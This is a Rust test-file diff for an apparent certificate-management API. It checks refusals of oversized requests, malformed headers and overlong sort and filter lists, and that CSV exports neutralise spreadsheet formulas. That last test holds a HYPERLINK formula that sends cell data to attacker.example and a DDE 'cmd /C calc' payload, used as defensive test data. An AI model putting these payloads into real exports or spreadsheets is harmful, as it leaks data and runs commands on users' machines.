@@ -278,6 +278,32 @@ proptest! {
 }
 
 #[test]
+fn the_http_layers_own_refusals_answer_in_the_doors_shape() {
+    let (rt, s) = server();
+    rt.block_on(async {
+        for (door, path) in [
+            (FrontDoor::CertCentral, "/services/v2/user"),
+            (FrontDoor::Partner, "/partner-subscription/api/v1/account/subaccount"),
+            (FrontDoor::Ncp, "/api/v2/certificate/certificateTypes"),
+            (FrontDoor::Acme, "/acme/directory"),
+        ] {
+            let long_uri = s.client.get(format!("{}{path}?x={}", s.base, "a".repeat(40_000)));
+            let big_header = s.client.get(format!("{}{path}", s.base)).header("x-big", "b".repeat(100_000));
+            for (request, status) in [(long_uri, 414), (big_header, 431)] {
+                let resp = request.send().await.unwrap();
+                assert_eq!(resp.status(), status, "{path}");
+                let ct = resp.headers()["content-type"].to_str().unwrap().to_owned();
+                assert_dialect(door, status, &ct, &resp.bytes().await.unwrap(), path);
+            }
+        }
+        // Bytes HTTP does not allow in a head never reach a handler: hyper answers a bare 400.
+        let answer = s.raw("GET /services/v2/user HTTP/1.1\r\nHost: x\r\nX-DC-DEVKEY: a\0b\r\n\r\n").await;
+        assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
+        assert_eq!(s.get(Some(&s.fx.admin_key), "/user/me").await.0, 200);
+    });
+}
+
+#[test]
 fn huge_headers_are_refused_and_the_server_lives_on() {
     let (rt, s) = server();
     rt.block_on(async {
@@ -294,5 +320,80 @@ fn huge_headers_are_refused_and_the_server_lives_on() {
         let _ = many.header("X-DC-DEVKEY", &s.fx.admin_key).send().await;
         let (status, _, _) = s.get(Some(&s.fx.admin_key), "/user/me").await;
         assert_eq!(status, 200);
+    });
+}
+
+#[tokio::test]
+async fn csv_cells_that_spreadsheets_would_run_are_neutralised() {
+    let s = TestServer::start().await;
+    let link = r#"=HYPERLINK("http://attacker.example/?x="&A1,"Click")"#;
+    let container = s
+        .store
+        .create_container(&certkeep_core::NewContainer {
+            account_id: s.fx.account,
+            parent_id: Some(s.fx.root),
+            name: link.into(),
+            description: String::new(),
+        })
+        .unwrap();
+    let email = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let id = s.insert_order(container, email);
+    let resp = s
+        .client
+        .get(format!("{}/services/v2/order/certificate", s.base))
+        .header("X-DC-DEVKEY", &s.fx.admin_key)
+        .header("Accept", "text/csv")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    let body = resp.text().await.unwrap();
+    let row = body.lines().find(|l| l.starts_with(&format!("\"{id}\""))).unwrap();
+    // Quoted as before, and prefixed with `'` so that no spreadsheet reads a formula.
+    assert!(row.contains(r#","'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")","#), "{row}");
+    // (e-mails are kept in lower case)
+    assert!(row.contains(r#","'@sum(1+1)*cmd|' /c calc'!a0","#), "{row}");
+    for formula in ["=", "@", "+", "\t", "\r"] {
+        assert!(!body.contains(&format!(",\"{formula}")), "a cell starts with {formula:?}: {body}");
+    }
+}
+
+#[test]
+fn oversized_sorts_and_filter_lists_are_400s_in_json_and_csv() {
+    let (rt, s) = server();
+    let thousands_of_keys = format!("sort={}", vec!["id"; 2001].join(","));
+    let every_field_twice = "sort=id,date_created,status,common_name,valid_till,product_name_id,\
+        organization_id,container_id,user_id,email,is_renewed,-id";
+    let many_ids = (0..1001).map(|i| format!("filters[id]={i}")).collect::<Vec<_>>().join("&");
+    let many_statuses = vec!["filters[status][]=issued"; 1001].join("&");
+    rt.block_on(async {
+        for (query, code) in [
+            (thousands_of_keys.as_str(), "invalid_sort|repeated"),
+            (every_field_twice, "invalid_sort|repeated"),
+            (many_ids.as_str(), "invalid_filter_value|id"),
+            (many_statuses.as_str(), "invalid_filter_value|status"),
+        ] {
+            for accept in ["application/json", "text/csv"] {
+                let resp = s
+                    .client
+                    .get(format!("{}/services/v2/order/certificate?{query}", s.base))
+                    .header("X-DC-DEVKEY", &s.fx.admin_key)
+                    .header("Accept", accept)
+                    .send()
+                    .await
+                    .unwrap();
+                let what = format!("{accept} {}", &query[..40]);
+                assert_eq!(resp.status(), 400, "{what}");
+                assert_eq!(resp.headers()["content-type"], "application/json", "{what}");
+                let v: serde_json::Value = resp.json().await.unwrap();
+                assert_eq!(v["errors"][0]["code"], code, "{what}");
+            }
+        }
+        // Within the bounds, both answer in full.
+        let (status, _, body) = s.get(Some(&s.fx.admin_key), "/order/certificate?sort=-valid_till,id").await;
+        assert_eq!(status, 200, "{body}");
+        let requests = vec!["filters[status]=pending"; 1000].join("&");
+        let (status, _, body) = s.get(Some(&s.fx.admin_key), &format!("/request?{requests}")).await;
+        assert_eq!(status, 200, "{body}");
     });
 }
